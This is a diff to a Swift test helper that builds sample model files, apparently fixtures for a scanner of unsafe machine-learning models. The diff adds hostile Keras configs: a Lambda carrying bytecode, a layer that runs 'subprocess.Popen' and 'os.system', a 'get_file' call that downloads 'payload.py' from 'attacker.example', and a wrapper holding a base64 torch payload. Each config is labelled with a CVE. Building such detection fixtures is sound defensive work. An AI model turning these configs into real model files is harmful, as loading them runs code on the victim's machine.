@@ -1,3 +1,4 @@
+import Foundation
 /// Tiny writers of model formats for rule examples and tests (never used to load anything).
 public enum FormatBuilders {
     static func le(_ v: UInt64, _ n: Int) -> [UInt8] { (0..<n).map { UInt8(truncatingIfNeeded: v >> (8 * UInt64($0))) } }
@@ -105,4 +106,33 @@ public enum FormatBuilders {
     public static let kerasLambdaConfig = #"{"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": [{"module": "keras.layers", "class_name": "Lambda", "config": {"name": "lambda", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMMAAAAdABkAYMBAQB8AFMAKQJO", "defaults": null, "closure": null}}}, "registered_name": null}]}}"#
     public static let kerasDenseConfig = #"{"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": [{"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense", "units": 2}, "registered_name": null}]}}"#
     public static let kerasForeignModuleConfig = #"{"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": [{"module": "subprocess", "class_name": "Popen", "config": {"args": ["id"]}, "registered_name": null}]}}"#
+
+    /// A `saved_model.pb` without `saved_model_schema_version` (it starts with its meta graph).
+    public static func savedModelWithoutVersion(ops: [String]) -> [UInt8] {
+        Array(savedModel(ops: ops).dropFirst(2))
+    }
+
+    /// A Keras SavedModel `keras_metadata.pb`: one `SavedObject` node per layer config JSON.
+    public static func kerasMetadata(layers: [String]) -> [UInt8] {
+        layers.enumerated().flatMap { i, json in field(1, field(3, "layer-\(i)") + field(4, "_tf_keras_layer") + field(5, json)) }
+    }
+
+    /// A `.keras` zip with only `config.json` (no `metadata.json`, no weights): Keras still loads it.
+    public static func kerasConfigOnly(config: String) -> [UInt8] {
+        var z = ZipBuilder()
+        z.add("config.json", Array(config.utf8))
+        return z.build()
+    }
+
+    public static let kerasLambdaLayerJSON = #"{"name": "lambda", "class_name": "Lambda", "config": {"name": "lambda", "function": {"class_name": "__tuple__", "items": ["4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMMAAAAdABkAYMBAQB8AFMAKQJO", null, null]}, "function_type": "lambda"}}"#
+    public static let kerasDenseLayerJSON = #"{"name": "dense", "class_name": "Dense", "config": {"name": "dense", "units": 2, "activation": "relu"}}"#
+    /// A Lambda whose function is `system` from a module named in `fn_module` (CVE-2025-1550 variant).
+    public static let kerasFnModuleConfig = #"{"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": [{"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 1, "function": "system", "fn_module": "os", "function_type": "function"}, "registered_name": null}]}}"#
+    /// `keras.utils.get_file` called with a URL while the config is deserialised (CVE-2025-8747).
+    public static let kerasGetFileConfig = #"{"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": [{"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 1, "kernel_initializer": {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file", "args": {"fname": "x.py", "origin": "https://attacker.example/payload.py", "cache_dir": "/tmp"}}}, "registered_name": null}]}}"#
+    /// `TorchModuleWrapper` whose `module` is a base64 `torch.save` (CVE-2025-49655).
+    public static func kerasTorchModuleWrapperConfig(moduleBytes: [UInt8]) -> String {
+        let b64 = Data(moduleBytes).base64EncodedString()
+        return #"{"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": [{"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"name": "torch_module_wrapper", "module": ""# + b64 + #""}, "registered_name": null}]}}"#
+    }
 }
